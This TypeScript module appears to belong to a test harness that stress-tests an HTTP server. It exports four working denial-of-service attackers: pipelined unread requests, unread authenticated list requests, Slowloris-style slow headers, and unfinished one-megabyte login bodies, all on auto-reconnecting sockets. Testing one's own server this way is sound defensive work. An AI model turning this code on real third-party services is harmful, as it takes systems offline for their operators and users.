import { connect, type Socket } from 'node:net'
import type { Attack, Attacker, Target } from './target.ts'

/** A TCP connection that speaks HTTP by hand and reads only when told to. */
function openLine({ url }: Target): Promise<Socket> {
  const { hostname, port } = new URL(url)
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname)
    socket.once('connect', () => resolve(socket))
    socket.once('error', reject)
    socket.on('error', () => {})
    socket.pause()
  })
}

const openLines = (target: Target, count: number) => Promise.all(Array.from({ length: count }, () => openLine(target)))

const head = (path: string, token?: string) =>
  `GET ${path} HTTP/1.1\r\nHost: x\r\n${token ? `Authorization: Bearer ${token}\r\n` : ''}\r\n`

/** Opens lines that are closed by the server, too, anew: an attack goes on. */
async function holdLines(target: Target, count: number, use: (line: Socket) => void): Promise<Attack> {
  const lines = new Set<Socket>()
  let stopped = false
  const add = async () => {
    if (stopped) return
    const line = await openLine(target).catch(() => null)
    if (!line) return
    lines.add(line)
    line.once('close', () => {
      lines.delete(line)
      if (!stopped) setTimeout(() => void add(), 50)
    })
    use(line)
  }
  await Promise.all(Array.from({ length: count }, add))
  return {
    stop: async () => {
      stopped = true
      for (const line of lines) line.destroy()
    },
  }
}

/** Eight anonymous connections send a thousand requests each for the page's files and read none of the answers. */
export const pipelinedRequests: Attacker = target => holdLines(target, 8, line => line.write(head('/').repeat(1_000)))

/** Sixty connections of one account ask for its longest list and read none of the answers. */
export const unreadLists: Attacker = target =>
  holdLines(target, 60, line => line.write(head('/api/v1/tasks?category=long&page_size=100', target.token)))

/** Five hundred connections send one byte of a request's head every second. */
export const slowHeads: Attacker = async target => {
  const timers = new Set<NodeJS.Timeout>()
  const attack = await holdLines(target, 500, line => {
    line.write('GET / HTTP/1.1\r\nX-Slow: ')
    const timer = setInterval(() => line.write('x'), 1_000)
    timers.add(timer)
    line.once('close', () => clearInterval(timer))
  })
  return {
    stop: async () => {
      for (const timer of timers) clearInterval(timer)
      await attack.stop()
    },
  }
}

/** Two hundred anonymous connections send almost a megabyte of a sign-in each, and never the end of it. */
export const unfinishedBodies: Attacker = target =>
  holdLines(target, 200, line => {
    line.write(
      'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n',
    )
    line.write(Buffer.alloc(999_000, 0x20))
  })

export { head, openLine, openLines }
